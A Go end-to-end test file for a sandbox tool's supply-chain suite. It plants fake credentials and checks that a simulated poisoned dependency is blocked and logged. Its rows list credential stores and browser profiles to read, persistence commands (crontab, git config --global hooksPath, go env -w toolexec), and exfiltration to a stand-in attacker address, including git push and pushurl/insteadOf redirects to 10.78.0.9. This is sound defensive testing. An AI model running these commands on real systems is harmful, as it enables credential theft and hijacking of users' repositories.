package e2e

import (
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/report"
)

// The supply-chain suite's sixth round (issue 23): what a poisoned dependency does from the
// places real ones run code, against the user's session as it is on a developer's machine:
// credential stores beside the ones of the first rounds (gh, docker, kube, netrc, git's
// credential file, the project's .npmrc, gpg, a browser profile, the shell history), tokens in
// the environment and in the user's shell's /proc/PID/environ, the agents and buses the session
// exports (ssh-agent, gpg-agent, rootless docker, D-Bus), persistence by the tools themselves
// (crontab -, git config --global, go env -w), a PATH shadow, the project next door, and
// exfiltration through the allowed registry (a secret in the path, another Host, another SNI,
// its redirect), git push to a new remote and the step's own output. Every row must fail and be
// on the record (report and stderr), as root and as an ordinary user.

// session6 is where the session's agents and buses listen (the test's mount namespace has a
// tmpfs on /run/user): uid 1000's runtime directory, as a desktop session has it.
const session6 = "/run/user/1000"

// secret6 are the credential stores the sixth round plants (portable path: content); every
// value holds a marker of its own that the leak scan looks for, never at its start (a brokered
// stand-in keeps a token's prefix up to its first - or _).
var secret6 = map[string]string{
	"$HOME/.config/gh/hosts.yml":                     "github.com:\n    oauth_token: gho_FAKEgh0123456789\n",
	"$HOME/.docker/config.json":                      `{"auths":{"registry.test":{"auth":"FAKEdocker0123"}}}` + "\n",
	"$HOME/.kube/config":                             "users:\n- name: u\n  user:\n    token: FAKEkube0123\n",
	"$HOME/.netrc":                                   "machine registry.test login u password FAKEnetrc0123\n",
	"$HOME/.git-credentials":                         "https://u:FAKEgitcred0123@github.com\n",
	"$WORKDIR/.npmrc":                                "//registry.test/:_authToken=npm_FAKEprojnpmtoken0123456789abcdef\n",
	"$HOME/.gnupg/private-keys-v1.d/sc6.key":         "FAKEgpgkey\n",
	"$HOME/.mozilla/firefox/sc6.default/logins.json": `{"logins":[{"encryptedPassword":"FAKE-firefox"}]}` + "\n",
	"$HOME/.config/google-chrome/Default/Login Data": "FAKE-chrome-logins\n",
	"$HOME/.config/chromium/Default/Cookies":         "FAKE-chromium-cookies\n",
	"$HOME/.bash_history":                            "export GITHUB_TOKEN=ghp_FAKE-history\n",
	"$HOME/.zsh_history":                             ": 1700000000:0;export NPM_TOKEN=npm_FAKE-zshhistory\n",
}

// env6 are the session's variables: tokens and the addresses of its agents and buses.
var env6 = []string{
	"GITHUB_TOKEN=ghp_FAKEenvgithub0123456789abcdefghijkl",
	"NPM_TOKEN=npm_FAKEenvnpm0123456789abcdefghijklmnop",
	"SSH_AUTH_SOCK=" + session6 + "/keyring/ssh",
	"DBUS_SESSION_BUS_ADDRESS=unix:path=" + session6 + "/bus",
	"DOCKER_HOST=unix://" + session6 + "/docker.sock",
}

// leakMarkers are the parts of every planted secret: none may turn up in a file of the tree or
// the home that was not planted with it.
var leakMarkers = []string{"FAKE-ssh-key", "FAKEnpmtoken", "FAKE-aws", "FAKE-env", "RkFLRWdpdHRva2Vu-FAKE", "FAKEgh0",
	"FAKEdocker", "FAKEkube", "FAKEnetrc", "FAKEgitcred", "FAKEprojnpm", "FAKEgpg", "FAKE-firefox", "FAKE-chrome",
	"FAKE-chromium", "FAKE-history", "FAKE-zshhistory", "FAKEenvgithub", "FAKEenvnpm"}

const (
	// spawnRefused: a step that never started a program (python3 -c) is refused the spawn
	// itself, before any exec names the program.
	spawnRefused = "clone(CLONE_VM"
	portUnseen   = "connects to ports no network rule names"
	gitGlobal    = "$HOME/.gitconfig"
	cronSpool    = "/var/spool/cron/crontabs"
)

func hidden6(p string) supplyRow {
	return supplyRow{action: "read=" + p, leak: "LEAKED", kind: "hidden", key: strings.TrimPrefix(strings.TrimPrefix(p, "$HOME"), "$WORKDIR"), unobservable: fileDenied}
}

var supply6Rows = []supplyRow{
	// Credential theft.
	hidden6("$HOME/.config/gh/hosts.yml"),
	hidden6("$HOME/.docker/config.json"),
	hidden6("$HOME/.kube/config"),
	hidden6("$HOME/.netrc"),
	hidden6("$HOME/.git-credentials"),
	hidden6("$WORKDIR/.npmrc"),
	hidden6("$HOME/.gnupg/private-keys-v1.d/sc6.key"),
	hidden6("$HOME/.mozilla/firefox/sc6.default/logins.json"),
	hidden6("$HOME/.config/google-chrome/Default/Login Data"),
	hidden6("$HOME/.config/chromium/Default/Cookies"),
	hidden6("$HOME/.bash_history"),
	hidden6("$HOME/.zsh_history"),
	{action: "env=GITHUB_TOKEN", leak: "LEAKED", kind: "env", key: "GITHUB_TOKEN"},
	{action: "env=NPM_TOKEN", leak: "LEAKED", kind: "env", key: "NPM_TOKEN"},
	// The user's shell (SUPPLY_SHELL_PID) and every ancestor of the step.
	{action: "environ=ancestors", leak: "LEAKED", kind: "env", key: "GITHUB_TOKEN"},
	{action: "unix=$SSH_AUTH_SOCK", sink: "unix-ssh-", kind: report.KindNetwork, key: "/keyring/ssh", unobservable: unixUnseen},
	{action: "unix=" + session6 + "/gnupg/S.gpg-agent", sink: "unix-S.gpg-agent-", kind: report.KindNetwork, key: "S.gpg-agent", unobservable: unixUnseen},
	{action: "unix=$DOCKER_HOST", sink: "unix-docker.sock-", kind: report.KindNetwork, key: "docker.sock", unobservable: unixUnseen},
	{action: "unix=$DBUS_SESSION_BUS_ADDRESS", sink: "unix-bus-", kind: report.KindNetwork, key: session6 + "/bus", unobservable: unixUnseen},

	// Persistence by the tools themselves, a PATH shadow, the project next door.
	{action: "run=crontab -", host: cronSpool, kind: report.KindFile, key: "bin/crontab exec|/var/spool/cron|" + spawnRefused, unobservable: fileDenied},
	{action: "run=git config --global core.hooksPath $HOME/.hooks", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec|" + spawnRefused, unobservable: fileDenied},
	{action: "run=git config --global include.path $HOME/.config/sc6.inc", host: gitGlobal, kind: report.KindFile, key: "/.gitconfig|bin/git exec|" + spawnRefused, unobservable: fileDenied},
	{action: "run=go env -w GOFLAGS=-toolexec=$HOME/.cache/x", host: "$HOME/.config/go/env", kind: report.KindFile, key: "/go/env|bin/go exec|" + spawnRefused, unobservable: fileDenied},
	persistRow("$HOME/.local/bin/git", "/.local/bin"),
	persistRow("$WORKDIR/../sibling/Makefile", "sibling/Makefile"),
	persistRow("$WORKDIR/../sibling/.git/hooks/pre-commit", "sibling/.git/hooks"),
	persistRow("$WORKDIR/../sibling/node_modules/.bin/tsc", "sibling/node_modules/.bin"),

	// Exfiltration.
	{action: "resolve=fake-ssh-key.registry.test", leak: "ANSWERED", kind: report.KindNetwork, key: "fake-ssh-key.registry.test"},
	{action: "tcp=10.78.0.9:4444", sink: "tcp4444 FAKE-loot", kind: report.KindNetwork, key: "10.78.0.9:4444", unobservable: portUnseen},
	{action: "exfil-path=$HOME/.ssh/id_ed25519,registry.test:8080", leak: "bytes of secret", sink: "FAKE-ssh-key", kind: "hidden", key: ".ssh/id_ed25519", unobservable: fileDenied},
	{action: "exfil-path=env:GITHUB_TOKEN,registry.test:8080", leak: "bytes of secret", sink: "FAKEenvgithub", kind: "env", key: "GITHUB_TOKEN"},
	{action: "http=registry.test:8080,host-mismatch", sink: "evil-host.test", kind: report.KindNetwork, key: "evil-host.test"},
	{action: "sni=registry.test:8080,evil-sni.test", sink: "evil-sni.test", kind: report.KindNetwork, key: "evil-sni.test"},
	{action: "redirect=registry.test:8080", sink: "loot-redirected", kind: report.KindNetwork, key: "10.78.0.9:4445", unobservable: portUnseen},
	{action: "run=git push -q http://10.78.0.9:4446/loot.git HEAD:refs/heads/loot", sink: "loot.git", kind: report.KindFile, key: "10.78.0.9:4446|bin/git exec|git-core/git exec|git-remote-http exec|" + spawnRefused, unobservable: portUnseen + "|" + fileDenied},
	// The user's next push (unsandboxed, with the user's credentials) goes to the attacker.
	{action: "run=git config remote.origin.pushurl http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: report.KindFile, key: ".git/config|bin/git exec|" + spawnRefused, unobservable: fileDenied},
	{action: "copyout=$HOME/.ssh/id_ed25519", leak: "bytes of secret", kind: "hidden", key: ".ssh/id_ed25519", unobservable: fileDenied},
	{action: "copyout=$WORKDIR/.git/config", leak: "bytes of secret", kind: "hidden", key: ".git/config", unobservable: fileDenied},
	{action: "copyout=env:NPM_TOKEN", leak: "bytes of secret", kind: "env", key: "NPM_TOKEN"},
}

// supply6Vectors are the ways in the sixth round adds: npm's prepare of the project itself and
// a local wheel installed offline whose sitecustomize.py the next python runs.
var supply6Vectors = []supplyVector{
	{name: "npm-prepare", fixture: "npmprepare", need: []string{"npm", "node"},
		argv:  []string{"npm", "install", "--offline", "--no-audit", "--no-fund", "--foreground-scripts"},
		again: "rm -rf node_modules package-lock.json"},
	{name: "pip-wheel-sitecustomize", fixture: "pywheel", need: []string{"pip3"},
		setup: func(t *testing.T, sc *supplyEnv, b *testutil.Box) { b.Sh(t, "python3 mkwheel.py") },
		argv:  []string{"sh", "install.sh"}, again: "rm -rf vendor"},
}

// sixthRound is the sixth round's part of runSupplySuite: the session (secrets, sockets, the
// user's shell, the project next door), its variables, and the leak scan after each run.
func sixthRound(suite *testing.T) supplyExtra {
	shell := startSession6(suite)
	return supplyExtra{
		setup: func(t *testing.T, sc *supplyEnv, b *testutil.Box) {
			sc.startAgents6(t, suite) // stopped with the suite, not this vector: every vector uses them
			for p, content := range secret6 {
				testutil.WriteFile(t, expand6(b, p), content, 0o600)
			}
			sib := filepath.Join(filepath.Dir(b.Work), "sibling")
			testutil.WriteFile(t, filepath.Join(sib, "Makefile"), "all:\n\t@echo sibling\n", 0o644)
			testutil.WriteFile(t, filepath.Join(sib, "node_modules", ".bin", "tsc"), "#!/bin/sh\necho tsc\n", 0o755)
			b.Sh(t, "cd ../sibling && git init -q . && cd ../work && git remote add origin https://github.com/example/app.git")
			// The project next door is the same user's.
			chownTree(t, sib, 65534)
		},
		env: func(sc *supplyEnv, b *testutil.Box) []string {
			return append(slices.Clone(env6), fmt.Sprintf("SUPPLY_SHELL_PID=%d", shell))
		},
		check: func(t *testing.T, b *testutil.Box, r testutil.Result, rep string) {
			if leaks := leakScan(b); len(leaks) > 0 {
				t.Errorf("a secret left the run in a file: %s", strings.Join(leaks, "; "))
			}
		},
	}
}

// expand6 is a portable path of the box.
func expand6(b *testutil.Box, p string) string {
	return strings.NewReplacer("$HOME", b.Home, "$WORKDIR", b.Work).Replace(p)
}

// startSession6 starts the user's shell: a process on the host whose environment holds the
// session's tokens (what /proc/PID/environ shows). It returns its pid.
func startSession6(t *testing.T) int {
	cmd := exec.Command("sleep", "3600")
	cmd.Env = append(os.Environ(), env6...)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd.Process.Pid
}

// startAgents6 gives the suite's mount namespace a tmpfs on /run/user with the session's agent
// and bus sockets in it (once; they stop with owner).
func (sc *supplyEnv) startAgents6(t, owner *testing.T) {
	t.Helper()
	if _, err := os.Stat(sc.log + ".ready-named"); err == nil {
		return
	}
	socks := []string{session6 + "/keyring/ssh", session6 + "/gnupg/S.gpg-agent", session6 + "/docker.sock", session6 + "/bus"}
	script := fmt.Sprintf(`set -e
mount -t tmpfs -o mode=0755 tmpfs /run/user
mkdir -p %[1]s/keyring %[1]s/gnupg
exec /usr/bin/python3 %[2]s %[3]s named %[4]s`, session6, testutil.Testdata("attacks", "supplychain", "sinks.py"), sc.log, strings.Join(socks, " "))
	cmd := exec.Command("nsenter", "-t", fmt.Sprint(sc.holder), "-m", "-n", "--", "sh", "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	owner.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
	})
	for i := 0; i < 200; i++ {
		if _, err := os.Stat(sc.log + ".ready-named"); err == nil {
			return
		}
		if i == 199 {
			t.Fatal("the session's agent sockets did not start")
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// leakScan names the files of the box (tree, home, the project next door) that hold a planted
// secret's marker without having been planted with it.
func leakScan(b *testutil.Box) []string {
	planted := map[string]bool{}
	for p := range secret6 {
		planted[expand6(b, p)] = true
	}
	for _, p := range []string{"$HOME/.ssh/id_ed25519", "$HOME/.npmrc", "$HOME/.aws/credentials", "$WORKDIR/.env", "$WORKDIR/.git/config"} {
		planted[expand6(b, p)] = true
	}
	var leaks []string
	for _, root := range []string{b.Work, b.Home, filepath.Join(filepath.Dir(b.Work), "sibling")} {
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() || planted[p] {
				return nil
			}
			if fi, err := d.Info(); err != nil || fi.Size() > 1<<20 {
				return nil
			}
			data, err := os.ReadFile(p)
			if err != nil {
				return nil
			}
			for _, m := range leakMarkers {
				if strings.Contains(string(data), m) {
					leaks = append(leaks, fmt.Sprintf("%s holds %s", p, m))
				}
			}
			return nil
		})
	}
	return leaks
}

// TestSupplyChainSixthRows runs the sixth round's attacks through every way in of the first
// rounds (but the one enforce closes by itself).
func TestSupplyChainSixthRows(t *testing.T) {
	var vectors []supplyVector
	for _, v := range slices.Concat(supplyVectors, supply5Vectors) {
		if v.closed == "" {
			vectors = append(vectors, v)
		}
	}
	runSupplySuite(t, vectors, supply6Rows, sixthRound(t))
}

// TestSupplyChainSixthWays runs every round's attacks through the sixth round's ways in.
func TestSupplyChainSixthWays(t *testing.T) {
	runSupplySuite(t, supply6Vectors, slices.Concat(supplyRows, supply5Persist, supply6Rows), sixthRound(t))
}

// TestSupplyChainSessionSecretsUnderWideRead: a profile that reads the home whole (a tool that
// walks it, or a rule a user widened) still hides the session's secrets: the browser profiles
// and histories too, not only the classic credential stores (paths.CredentialStores).
func TestSupplyChainSessionSecretsUnderWideRead(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "unshare", "nsenter", "ip", "setpriv", "python3", "git", "make")
	root, sc, b, _ := poisonedMakeBox(t, "sysprof-e2e-wideread-")
	for p, content := range secret6 {
		testutil.WriteFile(t, expand6(b, p), content, 0o600)
	}
	var rows []supplyRow
	for _, r := range supply6Rows {
		if r.kind == "hidden" {
			rows = append(rows, r)
		}
	}
	var arm []string
	for _, r := range rows {
		arm = append(arm, r.action)
	}
	learned := filepath.Join(root, "make.yaml")
	testutil.MustCode(t, "learn the dormant package", sc.run(t, b, nil, nil, testutil.SysprofBin, "learn", "-p", learned, "--", "make"), 0)
	p := loadProfile(t, learned)
	p.Filesystem.Read = append(p.Filesystem.Read, policy.PathRule{Path: "$HOME", Note: "widened: the home whole"})
	profile := filepath.Join(root, "wide.yaml")
	if err := policy.Save(profile, p); err != nil {
		t.Fatal(err)
	}
	openForNobody(t, filepath.Join(root, "make"))
	os.Chmod(profile, 0o644)
	for _, as := range asUsers {
		t.Run(as.name, func(t *testing.T) {
			if as.wrap != nil {
				chownTree(t, b.Work, 65534)
				chownTree(t, b.Home, 65534)
			}
			os.RemoveAll(filepath.Join(b.Work, "out"))
			rep := filepath.Join(root, "make", as.name+".json")
			r := sc.run(t, b, as.wrap, []string{"SUPPLY_ARM=" + strings.Join(arm, "\n")}, testutil.SysprofBin, "enforce", "-p", profile, "--report", rep, "--", "make")
			checkSupplyRun(t, b, r, rows, arm, rep, "", nil, nil, as.wrap != nil)
		})
	}
}

// redirectRows send the user's next push (outside any sandbox, with the user's credentials)
// to the attacker: a pushurl, another URL of origin, insteadOf and pushInsteadOf.
var redirectRows = []supplyRow{
	{action: "run=git config remote.origin.pushurl http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
	{action: "run=git remote set-url origin http://10.78.0.9:4446/loot.git", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
	{action: "run=git config url.http://10.78.0.9:4446/.insteadOf https://github.com/", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
	{action: "run=git config url.http://10.78.0.9:4446/.pushInsteadOf https://github.com/", host: "$WORKDIR/.git/config", kind: "held", key: ".git/config"},
}

// TestSupplyChainGitPushRedirected: a pre-commit hook under a learned `git commit` (which writes
// .git whole) points the repository's pushes at the attacker. With a config that holds no
// credential (masked ones make it read-only), the write lands in the bound .git: the sweep
// must put the host's config back and hold the run's as dangerous (changeset.GitConfigRuns).
func TestSupplyChainGitPushRedirected(t *testing.T) {
	v := supplyVectors[slices.IndexFunc(supplyVectors, func(v supplyVector) bool { return v.name == "git-hook" })]
	setup := v.setup
	v.name = "git-hook-plain-config"
	v.setup = func(t *testing.T, sc *supplyEnv, b *testutil.Box) {
		setup(t, sc, b)
		b.Sh(t, "git config --unset http.https://github.com/.extraheader && git remote add origin https://github.com/example/app.git")
	}
	runSupplySuite(t, []supplyVector{v}, redirectRows)
}

// configRunsLater are files in directories a profile may bind writable whole (a tool's
// settings under $HOME/.config, its cache under $HOME/.gradle or $HOME/.local/share) that the
// host runs later: an editor's init, the desktop's file handlers, gradle's init scripts.
var configRunsLater = []supplyRow{
	persistRow("$HOME/.config/nvim/init.lua"),
	persistRow("$HOME/.config/Code/User/settings.json"),
	persistRow("$HOME/.config/tmux/tmux.conf"),
	persistRow("$HOME/.config/mimeapps.list"),
	persistRow("$HOME/.local/share/applications/evil.desktop"),
	persistRow("$HOME/.gradle/init.d/evil.gradle"),
	persistRow("$HOME/.pyenv/shims/git"), // a shim directory on the user's PATH
	persistRow("$HOME/.npm-global/bin/git"),
	persistRow("$HOME/.config/autostart/evil.desktop"),
	persistRow("$HOME/.config/git/config"),
}

// TestSupplyChainConfigDirsBoundWhole: under a profile that writes $HOME/.config,
// $HOME/.local/share, $HOME/.gradle and version managers' homes whole, the files there that run code later stay out of
// the host (read-only, or held dangerous), and the record names each.
func TestSupplyChainConfigDirsBoundWhole(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "unshare", "nsenter", "ip", "setpriv", "python3", "git", "make")
	root, sc, b, site := poisonedMakeBox(t, "sysprof-e2e-cfgdirs-")
	for _, d := range []string{".config", ".local/share", ".gradle", ".pyenv/versions", ".npm-global/lib"} {
		os.MkdirAll(filepath.Join(b.Home, d), 0o755)
	}
	var arm []string
	for _, r := range configRunsLater {
		arm = append(arm, r.action)
	}
	learned := filepath.Join(root, "make.yaml")
	testutil.MustCode(t, "learn the dormant package", sc.run(t, b, nil, nil, testutil.SysprofBin, "learn", "-p", learned, "--", "make"), 0)
	p := loadProfile(t, learned)
	for _, d := range []string{"$HOME/.config", "$HOME/.local/share", "$HOME/.gradle", "$HOME/.pyenv", "$HOME/.npm-global"} {
		p.Filesystem.Write = append(p.Filesystem.Write, policy.PathRule{Path: d, Note: "widened: a tool's settings and cache"})
	}
	profile := filepath.Join(root, "wide.yaml")
	if err := policy.Save(profile, p); err != nil {
		t.Fatal(err)
	}
	openForNobody(t, filepath.Join(root, "make"))
	os.Chmod(profile, 0o644)
	expand := func(s string) string {
		return strings.NewReplacer("$HOME", b.Home, "$WORKDIR", b.Work, "$USERSITE", site).Replace(s)
	}
	for _, as := range asUsers {
		t.Run(as.name, func(t *testing.T) {
			if as.wrap != nil {
				chownTree(t, b.Work, 65534)
				chownTree(t, b.Home, 65534)
			}
			os.RemoveAll(filepath.Join(b.Work, "out"))
			before := hostState(b, configRunsLater, expand)
			rep := filepath.Join(root, "make", as.name+".json")
			r := sc.run(t, b, as.wrap, []string{"SUPPLY_ARM=" + strings.Join(arm, "\n")}, testutil.SysprofBin, "enforce", "-p", profile, "--report", rep, "--", "make")
			checkSupplyRun(t, b, r, configRunsLater, arm, rep, "", before, hostState(b, configRunsLater, expand), as.wrap != nil)
		})
	}
}
